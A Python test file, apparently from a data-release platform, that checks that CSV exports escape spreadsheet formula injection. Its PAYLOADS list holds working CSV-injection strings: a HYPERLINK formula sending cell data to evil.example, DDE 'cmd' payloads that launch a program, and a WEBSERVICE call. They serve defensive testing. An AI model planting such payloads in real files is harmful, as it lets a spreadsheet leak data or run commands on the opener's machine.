"""CSV injection: text users choose reaches CSVs that people open in spreadsheets (a
released table, a query's result, the audit export). A cell that a spreadsheet would
run as a formula must arrive as text."""

from __future__ import annotations

import csv
import io
import json

import pyarrow as pa
import pytest
from hypothesis import given
from hypothesis import strategies as st

from passerelle import hub as H
from passerelle.research.rendering import csv_text
from passerelle.spreadsheet_cells import FORMULA_START, safe_cell, safe_table
from passerelle.workspace import decide_release, request_release, run_query
from tests.hub.conftest import Cast
from tests.workspace.test_releases import project, released_csv

__all__ = ["project"]

PAYLOADS = [
    '=HYPERLINK("http://evil.example/?"&A1,"open")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+9)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    '\uff1dWEBSERVICE("http://evil.example")',
]


def _runs(cell: str) -> bool:
    """Whether a spreadsheet could run ``cell``: a formula that may name a function or
    a command (``-1``, ``-0044-03-15`` are at most arithmetic)."""
    if not cell or cell[0] not in FORMULA_START:
        return False
    return cell[0] not in "+-" or any(
        c.isalpha() or c in "(|!" for c in cell[1:].lower().replace("infinity", "")
    )


@given(st.text())
def test_no_text_comes_out_as_a_formula_and_nothing_else_changes(text: str) -> None:
    safe = safe_cell(text)
    assert not _runs(safe)
    assert safe == text or (safe == "'" + text and text[0] in FORMULA_START)


@pytest.mark.parametrize(
    "exact", ["-9223372036854775808", "-12.5e3", "-0044-03-15", "-infinity", "+1", "-1:30"]
)
def test_the_exact_text_of_numbers_and_dates_is_kept(exact: str) -> None:
    assert safe_cell(exact) == exact
    assert safe_table(pa.table({"t": [exact]})).column("t").to_pylist() == [exact]


@pytest.mark.parametrize(
    "payload",
    ["-cmd|' /C calc'!A0", "-1+HYPERLINK(1)", "+e(1)", "-inf(1)", "-E1", "-E1:E99", "+T1 Z1"],
)
def test_signed_text_that_names_anything_is_quoted(payload: str) -> None:
    assert safe_cell(payload) == "'" + payload


@given(st.lists(st.one_of(st.none(), st.text()), max_size=20))
def test_the_arrow_kernels_agree_with_the_cell_by_cell_rule(texts: list[str | None]) -> None:
    table = pa.table({"t": pa.array(texts, pa.string()), "n": list(range(len(texts)))})
    out = safe_table(table)
    assert out.column("t").to_pylist() == [None if t is None else safe_cell(t) for t in texts]
    assert out.column("n").to_pylist() == list(range(len(texts)))


def test_a_query_result_as_csv_holds_no_formula() -> None:
    table = pa.table({PAYLOADS[0]: PAYLOADS, "n": [-1, 2, 3, 4, 5, 6, 7]})
    rows = list(csv.reader(io.StringIO(csv_text(table))))
    assert not any(_runs(cell) for row in rows for cell in row)
    assert rows[1] == ["'" + PAYLOADS[0], "-1"]  # a negative number stays a number


@pytest.mark.parametrize("payload", PAYLOADS[:3])
def test_a_released_table_carries_no_formula(cast: Cast, project: int, payload: str) -> None:
    """The researcher labels a cell with a formula (a string literal, and the column's
    name); the checker approves the counts; the table leaves as text."""
    literal = payload.replace("'", "''")
    name = payload.replace('"', '""')
    sql = f"SELECT '{literal}' AS \"{name}\", dept, count(*) AS n FROM stays GROUP BY dept"
    view, _ = run_query(cast.hub, cast.alice, project, sql)
    release = request_release(cast.hub, cast.alice, view.id)
    if release.status != "released":
        release = decide_release(cast.hub, cast.checker, release.id, approve=True)
    assert release.output_key is not None
    text = cast.hub.store().get(release.output_key).read().decode()
    cells = [cell for row in csv.reader(io.StringIO(text)) for cell in row]
    assert not any(_runs(cell) for cell in cells), text[:300]
    table = released_csv(cast, release.output_key)
    assert set(table["'" + payload]) == {"'" + payload}


def test_the_audit_export_as_csv_holds_no_formula(cast: Cast) -> None:
    """Text users chose lands in the audit log (a catalog search, here), which auditors
    open in spreadsheets; whatever a column of an event begins with, it leaves as text."""
    from passerelle.hub.audit import append_event

    H.list_datasets(cast.hub, cast.alice, search=PAYLOADS[0])
    with cast.hub.db.transaction() as session:  # an event whose every column is hostile
        append_event(
            cast.hub,
            session,
            actor=PAYLOADS[1],
            action=PAYLOADS[2],
            target=PAYLOADS[3],
            decision=PAYLOADS[4],
        )
    out = io.StringIO()
    assert H.export_events(cast.hub, cast.auditor, H.AuditFilter(), out, fmt="csv") > 0
    rows = list(csv.DictReader(io.StringIO(out.getvalue())))
    assert not any(_runs(value) for row in rows for value in row.values())
    hostile = rows[-2]
    assert [hostile[k] for k in ("actor", "action", "target")] == ["'" + p for p in PAYLOADS[1:4]]
    searched = [r for r in rows if r["action"] == "dataset.list" and "hyperlink" in r["details"]]
    assert json.loads(searched[-1]["details"])["search"] == PAYLOADS[0].casefold()


@given(st.text(alphabet="+-0123456789.:,eETZ \n", max_size=12))
def test_python_and_arrow_draw_the_line_in_the_same_place(text: str) -> None:
    assert safe_table(pa.table({"t": [text]})).column("t").to_pylist() == [safe_cell(text)]
